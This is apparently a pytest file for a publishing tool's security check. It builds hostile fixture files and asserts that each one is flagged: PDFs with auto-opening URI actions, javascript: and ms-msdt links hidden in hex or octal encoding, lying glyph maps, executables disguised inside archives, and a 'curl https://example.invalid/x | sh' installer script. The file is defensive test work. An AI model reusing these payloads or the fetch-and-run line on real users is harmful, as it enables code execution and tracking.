"""Hostile review 46: what round 5 left in copied files, and variants of what it fixed.

A PDF whose `/ToUnicode` map lies about the glyphs it draws (the page shows an address, a
copy says `xxxx`), a PDF with no text to read but shapes or pictures (text converted to
outlines, a scan), a Type 3 font whose glyphs name no character, a PDF that opens an address
by itself, links written in hex, octal or UTF-16; programs and scripts in plain archives.
Every file sits in one project, checked once (`kbgen check`, no build); the Chromium prints
were made with `chromium --headless --print-to-pdf` (tests/hostile/README.md).
"""

from __future__ import annotations

import gzip
import io
import random
import re
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import MINI_CONFIG
from tests.hostile.test_hostile44 import catalog_pdf, check_copied, line, page_pdf, pdf, zipped

HERE = Path(__file__).parent
NO_TEXT = "has no text that can be read"
NO_MAP = "has no map to characters"
OPENS = "opens an address or another file by itself"
LINK = "has a link to a javascript: or data: address"
PROGRAM = "kbgen does not publish programs"


def lying(data: bytes) -> bytes:
    """A PDF with every `/ToUnicode` map rewritten to copy each glyph as `x` (and the next
    letters, in ranges): what the page draws is unchanged."""
    for number in set(re.findall(rb"/ToUnicode (\d+) 0 R", data)):
        start = re.search(rb"\n" + number + rb" 0 obj\s*<<(.*?)>>\s*stream\r?\n", data, re.S)
        assert start is not None
        end = data.find(b"endstream", start.end())
        cmap = re.sub(rb"(?m)^(<[0-9A-Fa-f]+>\s*(?:<[0-9A-Fa-f]+>\s*)?)<[0-9A-Fa-f]+>$",
                      lambda m: m.group(1) + b"<0078>",
                      zlib.decompress(data[start.end():end].rstrip(b"\r\n")))
        packed = zlib.compress(cmap)
        header = re.sub(rb"/Length \d+", b"/Length %d" % len(packed), start.group(1))
        data = (data[:start.start()] + b"\n" + number + b" 0 obj\n<<" + header
                + b">>\nstream\n" + packed + b"\n" + data[end:])
    return data


def type3_pdf(names: bytes) -> bytes:
    """A Type 3 font (glyphs drawn by the file's own procedures) with no `/ToUnicode`, its
    codes 1, 2, ... named `names` by `/Differences`."""
    return page_pdf(line((b"F1", b"<0102030405060708090A0B>")),
                    {4: b"<< /Type /Font /Subtype /Type3 /Encoding << /Differences [1 %s] >>"
                        b" /CharProcs 12 0 R >>" % names, 5: b"<< /Subtype /Type1 >>"}, {})


def link_pdf(uri: bytes) -> bytes:
    """A one-page PDF with a link annotation (a click) to the PDF string `uri`."""
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                3: b"<< /Type /Page /Parent 2 0 R /Annots [9 0 R] /Contents 6 0 R >>",
                6: (b"", b"BT /F1 12 Tf (Help) Tj ET"),
                9: b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI %s >> >>" % uri})


def action_pdf(page_extra: bytes, objects: dict[int, bytes]) -> bytes:
    """A one-page PDF whose page holds `page_extra`, with more `objects` (actions)."""
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                3: b"<< /Type /Page /Parent 2 0 R %s /Contents 6 0 R >>" % page_extra,
                6: (b"", b"BT /F1 12 Tf (Help) Tj ET"), **objects})


def predicted_pdf(text: bytes, columns: int = 8) -> bytes:
    """A PDF whose page text is written through PNG's `Up` predictor (each row the
    difference from the row above), as readers draw it and no producer writes page text."""
    rows = [text[at:at + columns].ljust(columns) for at in range(0, len(text), columns)]
    encoded = b"".join(b"\x02" + bytes((a - b) % 256 for a, b in zip(row, above, strict=True))
                       for row, above in zip(rows, [bytes(columns), *rows], strict=False))
    packed = zlib.compress(encoded)
    return (b"%%PDF-1.7\n6 0 obj\n<< /Filter /FlateDecode /DecodeParms << /Predictor 12"
            b" /Columns %d >> /Length %d >>\nstream\n" % (columns, len(packed)) + packed
            + b"\nendstream\nendobj\ntrailer\n<< >>\n%%%%EOF\n")


URI_ACTION = b"<< /S /URI /URI (https://tracker.example/opened) >>"
PDFS = {
    # name: (file, what `kbgen check` must say of it)
    "lying-map.pdf": (lying((HERE / "chrome-letter.pdf").read_bytes()), "e-mail address"),
    "outlined-text.pdf": ((HERE / "chrome-outlines.pdf").read_bytes(), NO_TEXT),
    "scanned.pdf": ((HERE / "chrome-scan.pdf").read_bytes(), NO_TEXT),
    "type3-unnamed.pdf": (type3_pdf(b"/g1 /g2 /g3 /g4 /g5 /g6 /g7 /g8 /g9 /g10 /g11"), NO_MAP),
    "type3-no-encoding.pdf": (page_pdf(line((b"F1", b"<0102>")), {
        4: b"<< /Type /Font /Subtype /Type3 /CharProcs 12 0 R >>",
        5: b"<< /Subtype /Type1 >>"}, {}), NO_MAP),
    "open-uri.pdf": (catalog_pdf(b"/OpenAction " + URI_ACTION), OPENS),
    "open-uri-by-reference.pdf": (catalog_pdf(b"/OpenAction 20 0 R", URI_ACTION),
                                  OPENS),
    "open-then-next.pdf": (action_pdf(b"/AA << /O 20 0 R >>", {
        20: b"<< /S /GoTo /D [3 0 R /Fit] /Next 21 0 R >>", 21: URI_ACTION}), OPENS),
    "page-open-escaped.pdf": (action_pdf(b"/AA << /O 20 0 R >>", {
        20: b"<< /S /U#52I /URI (https://tracker.example/) >>"}), OPENS),
    "open-remote-file.pdf": (catalog_pdf(b"/OpenAction << /S /GoToR /F (other.pdf)"
                                         b" /D [0 /Fit] >>"), OPENS),
    "script-link-hex.pdf": (link_pdf(b"<6A617661736372697074 3A616C657274283129>"), LINK),
    "script-link-utf16.pdf": (link_pdf(b"<FEFF006A006100760061007300630072006900700074003A0078>"),
                              LINK),
    "script-link-octal.pdf": (link_pdf(b"(\\152avascript:alert(1\\))"), LINK),
    "script-link-tab.pdf": (link_pdf(b"(java\\tscript:x)"), LINK),
    "share-link.pdf": (link_pdf(b"(\\\\\\\\files.example\\\\share\\\\x.pdf)"), LINK),
    "share-file-link.pdf": (link_pdf(b"(file://files.example/share/x.pdf)"), LINK),
    "program-scheme-link.pdf": (link_pdf(b"(ms-msdt:/id PCWDiagnostic /skip force)"), LINK),
    "search-scheme-link.pdf": (link_pdf(b"<7365617263682D6D733A71756572793D696E766F696365>"),
                               LINK),
    "predictor.pdf": (predicted_pdf(b"BT /F1 12 Tf 72 700 Td (Write to jane.private@gmail.com)"
                                    b" Tj ET"), "e-mail address"),
    # `\9` is `9`: it made the reader fail on the whole file ("damaged"), naming nothing
    "escaped-nine.pdf": (pdf({1: b"<< /Title (Version \\9, jane.private\\100gmail.com) >>"}),
                         "e-mail address"),
}
BENIGN = {
    "benign-print.pdf": (HERE / "chrome-icons.pdf").read_bytes(),  # icons, a picture, text
    "benign-named-type3.pdf": type3_pdf(b"/T /u /r /n /space /i /t /o /f /period /one"),
    "benign-local-link.pdf": link_pdf(b"(file:///C:/Users/Public/manual.pdf)"),
    "benign-open-page.pdf": catalog_pdf(b"/OpenAction [3 0 R /Fit]"),
    "benign-web-link.pdf": link_pdf(b"(https://help.example/router)"),
    "benign-mail-link.pdf": link_pdf(b"(mailto:help@example.com)"),
    "benign-relative-link.pdf": link_pdf(b"(../router/reset.html#steps)"),
}


# --------------------------------------------------------------------- fonts' names


def font(names: dict[int, str], woff: bool = False) -> bytes:
    """A TrueType font holding only a `name` table (Windows platform, UTF-16) with these
    records; as WOFF 1.0 (its table compressed), given `woff`."""
    strings = b"".join(text.encode("utf-16-be") for text in names.values())
    records, at = b"", 0
    for number, text in names.items():
        size = len(text.encode("utf-16-be"))
        records += struct.pack(">6H", 3, 1, 0x409, number, size, at)
        at += size
    table = struct.pack(">3H", 0, len(names), 6 + len(records)) + records + strings
    if woff:
        packed = zlib.compress(table)
        return (b"wOFF\x00\x01\x00\x00" + struct.pack(">IHH", 64 + len(packed), 1, 0)
                + b"\x00" * 28 + struct.pack(">4sIIII", b"name", 64, len(packed), len(table), 0)
                + packed)
    return (b"\x00\x01\x00\x00" + struct.pack(">4H", 1, 0, 0, 0)
            + struct.pack(">4sIII", b"name", 0, 28, len(table)) + table)


FONTS = {
    "designer.ttf": (font({1: "Acme Sans", 9: "Jane Private, jane.private@gmail.com"}),
                     "e-mail address"),
    "designer.woff": (font({1: "Acme Sans", 0: "(c) Jane, +44 7911 123456"}, woff=True),
                      "phone number"),
}
BENIGN.update({"benign-licence.ttf": font({1: "Acme Sans", 13: "Contact: fonts at gnome dot org"})})


# --------------------------------------------------------------------- programs in archives

PE = b"MZ" + b"\x00" * 58 + (64).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 200
"""The start of a Windows program: the `MZ` header pointing to its `PE` header."""
ELF = Path(sys.executable).resolve().read_bytes()[:4096]
"""The start of a real Linux program (this Python)."""
SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"


def archived(members: dict[str, tuple[bytes, int]]) -> bytes:
    """A zip of (content, Unix mode) members, as `zip` on Linux writes them."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, (data, mode) in members.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def tarred(members: dict[str, tuple[bytes, int]], compression: str = "") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=f"w:{compression}") as archive:
        for name, (data, mode) in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def gzip_named(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=buffer) as stream:
        stream.write(data)
    return buffer.getvalue()


README = (b"Unzip and run the installer.\n", 0o644)
PROGRAMS = {
    "driver.zip": (archived({"driver/setup.exe": (PE, 0o644), "README.txt": README}),
                   "setup.exe is a .exe file"),
    "renamed.zip": (archived({"driver/setup.dat": (PE, 0o644)}), "is a Windows program"),
    "tool.tar.gz": (tarred({"tool/bin/tool": (ELF, 0o755)}, "gz"), "is a Linux program (ELF)"),
    "installer.zip": (archived({"install.sh": (SCRIPT, 0o755), "README.txt": README}),
                      "is an executable script"),
    "windows.tar": (tarred({"fix/repair.bat": (b"@echo off\r\n", 0o644)}), "is a .bat file"),
    "trailing-dot.zip": (archived({"repair.cmd.": (b"@echo off\r\n", 0o644)}),
                         "is a .cmd file"),
    "invoice.zip": (archived({"invoice.pdf.js": (b"WScript.Echo(1)", 0o644)}), "is a .js file"),
    "shortcut.zip": (zipped({"Manual.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 68}),
                     "is a .lnk file"),
    "repair.bat.gz": (gzip_named("repair.bat", b"@echo off\r\n"), "is a .bat file"),
    "in-a-zip-in-a-zip.zip": (zipped({"inner.zip": archived({"x.dat": (PE, 0o644)})}),
                              "is a Windows program"),
    "tool.bin": (ELF, "is a Linux program (ELF)"),
    # an OLE storage whose root entry names the Windows Installer class, renamed
    "windows-installer.zip": (zipped({"setup.dat": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                                      + b"\x00" * 504 + "Root Entry".encode("utf-16-le")
                                      + b"\x00" * 60
                                      + bytes.fromhex("84100c0000000000c000000000000046")}),
                              "is a Windows installer (.msi)"),
    "agent.zip": (zipped({"agent.dat": b"\xed\xab\xee\xdb\x03\x00\x00\x00" + b"\x00" * 88}),
                  "is a Linux installer (RPM package)"),
    "driver.png": (PE, "is a Windows program"),
}
BENIGN.update({
    "benign-script.zip": archived({"install.sh": (SCRIPT, 0o644), "README.txt": README}),
    "benign-notes.tar.gz": tarred({"notes/steps.txt": (b"Hold reset for 10 s.\n", 0o644),
                                   "notes/": (b"", 0o755)}, "gz"),
    "benign-mz.txt": b"MZ is where the router's model code starts.\n",
})


# --------------------------------------------------------------------- work under the size limits


def words(count: int) -> bytes:
    """`count` words of a help text in a random order (compressed, about a quarter)."""
    vocabulary = ["router", "reset", "the", "light", "cable", "wifi", "press", "hold"]
    return " ".join(random.Random(46).choices(vocabulary, k=count)).encode()


TOO_MUCH: dict[str, tuple[Callable[[], bytes], str]] = {
    # 5 MB of text from a 1.2 MB zip (ratio 4): 8 s of the gate's CPU, 64 MB would be 80 s
    "manuals.zip": (lambda: zipped({f"part{n}.txt": words(180_000) for n in range(5)}),
                    "MB of text (its own, or inside it), more than the 4 MB"),
    "authors.txt": (lambda: "".join(f"Patch by dev{n}.name@gmail.com\n"
                                    for n in range(1200)).encode(),
                    "1000 findings or more; kbgen stopped reading here"),
}


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> str:
    """`kbgen check` of one project holding every hostile and benign file."""
    return check_copied(tmp_path_factory.mktemp("hostile46"), MINI_CONFIG, {
        **{name: data for table in (PDFS, PROGRAMS, FONTS) for name, (data, _) in table.items()},
        **{name: make() for name, (make, _) in TOO_MUCH.items()}, **BENIGN})


def said_of(checked: str, name: str) -> list[str]:
    return [line for line in checked.splitlines() if line.startswith(f"content/files/{name}:")]


@pytest.mark.parametrize("name", sorted(PDFS))
def test_pdf_hiding_its_text_or_opening_an_address_is_caught(checked: str, name: str) -> None:
    said = said_of(checked, name)
    assert any(PDFS[name][1] in line for line in said), (name, said or checked)


@pytest.mark.parametrize("name", sorted(PROGRAMS))
def test_programs_and_scripts_in_archives_are_refused(checked: str, name: str) -> None:
    said = said_of(checked, name)
    assert any(PROGRAMS[name][1] in line and PROGRAM in line for line in said), \
        (name, said or checked)


@pytest.mark.parametrize("name", sorted(FONTS))
def test_a_fonts_names_are_read(checked: str, name: str) -> None:
    said = said_of(checked, name)
    assert any(f"in font names: {FONTS[name][1]}" in line for line in said), \
        (name, said or checked)


@pytest.mark.parametrize("name", sorted(TOO_MUCH))
def test_too_much_to_check_is_refused(checked: str, name: str) -> None:
    said = said_of(checked, name)
    assert any(TOO_MUCH[name][1] in line for line in said), (name, said or checked)
    assert len(said) <= 1001


def test_benign_files_pass(checked: str) -> None:
    assert not [line for line in checked.splitlines() if "benign" in line]


# --------------------------------------------------------------------- included text


REVIEWED = "jobs.desk@gmail.com <!-- kb:allow email -->"
"""A reviewed address in the page's own source: its mask (`j***@g***.com`) is an included
private address's too."""


def included(source: str, snippet: str, folder: Path) -> list[str]:
    """What `included_findings` names in `source` rendered by Python-Markdown with
    pymdownx.snippets including `snippet` (as `--8<-- "part.md"`)."""
    import markdown

    from kbgen.core.included_text import included_findings
    from kbgen.core.privacy import Allowed

    (folder / "part.md").write_text(snippet, encoding="utf-8")
    html = markdown.markdown(source + '\n\n--8<-- "part.md"\n',
                             extensions=["tables", "toc", "pymdownx.snippets"],
                             extension_configs={"pymdownx.snippets": {"base_path": [
                                 str(folder)]}})
    return [f"{finding.kind} ({finding.excerpt})"
            for finding in included_findings(source, html, Allowed(), None)]


def test_an_included_address_masked_like_a_reviewed_one_is_named(tmp_path: Path) -> None:
    assert included(f"Partner desk: {REVIEWED}", "Write to jane.private@gmail.com\n",
                    tmp_path) == ["e-mail address (j***@g***.com)"]


def test_a_reviewed_address_shown_many_ways_is_not_named(tmp_path: Path) -> None:
    source = (f"## Write to {REVIEWED}\n\nAutolink: <jobs.desk@gmail.com> <!-- kb:allow email"
              f" -->\n\nLink: [jobs.desk@gmail.com](mailto:jobs.desk@gmail.com) <!-- kb:allow"
              f" email -->\n\n| Desk | Mail |\n|---|---|\n| Jobs | {REVIEWED} |\n")
    assert included(source, "Turn it off and on.\n", tmp_path) == []
